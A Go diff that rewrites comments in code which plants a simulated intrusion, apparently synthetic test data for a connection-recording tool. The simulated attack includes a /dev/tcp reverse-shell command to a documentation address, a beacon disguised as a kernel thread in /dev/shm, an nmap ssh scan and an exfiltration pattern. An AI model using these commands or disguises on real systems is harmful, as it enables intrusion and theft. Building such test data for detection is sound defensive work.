@@ -9,13 +9,12 @@ import (
 	"github.com/conntape/conntape/store"
 )
 
-// The story is one intrusion whose steps are those of one tree of processes: a web
-// server is made to run a shell, which calls back, steals credentials from the
-// metadata service, drops a program that hides as a kernel thread and beacons,
-// scans, moves on by ssh and carries data out. Its addresses are those reserved for
-// documentation, and private ones that nothing else on the tape has.
+// The story is one intrusion in one process tree. An attacker makes a web server run a shell. The shell calls back,
+// steals credentials from the metadata service, and drops a program that hides as a kernel thread and beacons; then it
+// scans, moves on by ssh and carries data out. Its addresses are reserved for documentation, or private and used by
+// nothing else on the tape.
 
-// Places of the story.
+// Addresses and directory of the story.
 const (
 	storyControl = "198.51.100.7"  // reverse shell and download
 	storyBeacon  = "198.51.100.66" // command and control
@@ -23,19 +22,19 @@ const (
 	storyHidden  = "/dev/shm/.x"   // where the tools are
 )
 
-// storyStart is when it begins, as a part of the span.
+// storyStart is the story's begin, as a fraction of the span.
 const storyStart = 0.6
 
-// story adds to a stream.
+// story adds the intrusion to a stream.
 type story struct {
 	*Stream
-	worker *store.Process // of the web server
+	worker *store.Process // the web server's
 	shell  *store.Process
 	start  uint64
 	n      int
 }
 
-// plantStory adds the story and returns how many connections that are.
+// plantStory adds the story and returns its number of connections.
 func (s *Stream) plantStory() int {
 	t := &story{Stream: s, start: s.at(storyStart)}
 	master := t.execute(s.host.init, s.o.Begin/2, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx")
@@ -52,7 +51,7 @@ func (s *Stream) plantStory() int {
 	return t.n
 }
 
-// execute is one execution as the web server's user, whatever chance says.
+// execute starts a program as the web server's user.
 func (t *story) execute(parent *store.Process, at uint64, exe string, argv ...string) *store.Process {
 	p := t.host.execution(exe, parent, at)
 	p.Argv, p.Cwd, p.Container = argv, "/var/www", ""
@@ -64,10 +63,10 @@ func (t *story) execute(parent *store.Process, at uint64, exe string, argv ...st
 	return p
 }
 
-// after is a moment of the story.
+// after returns the moment d after the story's begin.
 func (t *story) after(d time.Duration) uint64 { return t.start + uint64(d) }
 
-// connectAt adds one connect with its end.
+// connectAt adds one connect with its outcome.
 func (t *story) connectAt(at uint64, p *store.Process, to *store.Endpoint, hook, errno unix.Errno) {
 	who := (&process{Process: p}).task(0)
 	shape := *t.host.usual(to)
@@ -81,7 +80,7 @@ func (t *story) connectAt(at uint64, p *store.Process, to *store.Endpoint, hook,
 	})
 }
 
-// everyDay is what the web server does anyway.
+// everyDay adds the web server's ordinary connects.
 func (t *story) everyDay() {
 	php := inet(netip.MustParseAddr("127.0.0.1"), 9000)
 	for i := range 300 {
@@ -89,7 +88,7 @@ func (t *story) everyDay() {
 	}
 }
 
-// enter is the way in: a shell that calls back, and credentials.
+// enter adds the way in: a shell that calls back, and stolen credentials.
 func (t *story) enter() {
 	t.shell = t.execute(t.worker, t.after(0), "/usr/bin/dash", "sh", "-c", "exec 3<>/dev/tcp/"+storyControl+"/4444")
 	t.shell.Comm = "sh"
@@ -100,8 +99,7 @@ func (t *story) enter() {
 	t.connectAt(t.after(45*time.Second), fetch, address(storyControl, 8000), 0, 0)
 }
 
-// stay is the beacon: every five minutes, 30% to either side. A security module
-// keeps it from docker.
+// stay adds the beacon, every five minutes ±30%, and a connect to docker that a security module denies.
 func (t *story) stay() {
 	beacon := t.execute(t.shell, t.after(time.Minute), storyHidden+"/kworker", "[kworker/u8:2]")
 	beacon.Comm = "kworker/u8:2"
@@ -122,7 +120,7 @@ func (t *story) plantBeacon(p *store.Process) {
 	t.planted = append(t.planted, Planted{Beacon, p, []*store.Endpoint{to}, first, t.end(), interval, jitter, n})
 }
 
-// moveOn is the scan of a subnet for ssh, and the logins that follow.
+// moveOn adds the scan of a subnet for ssh, and the logins that follow.
 func (t *story) moveOn() {
 	scan := t.execute(t.shell, t.after(time.Hour), storyHidden+"/nmap", "nmap", "-p22", "10.20.0.0/24")
 	var targets []*store.Endpoint
@@ -150,7 +148,7 @@ func (t *story) moveOn() {
 	t.connectAt(t.after(150*time.Minute), dump, address("10.20.0.51", 5432), 0, 0)
 }
 
-// carryOut is the exfiltration: many connects to one new place within the hour.
+// carryOut adds the exfiltration: many connects to one new endpoint within an hour.
 func (t *story) carryOut() {
 	const connects = 400
 	start := t.after(3 * time.Hour)
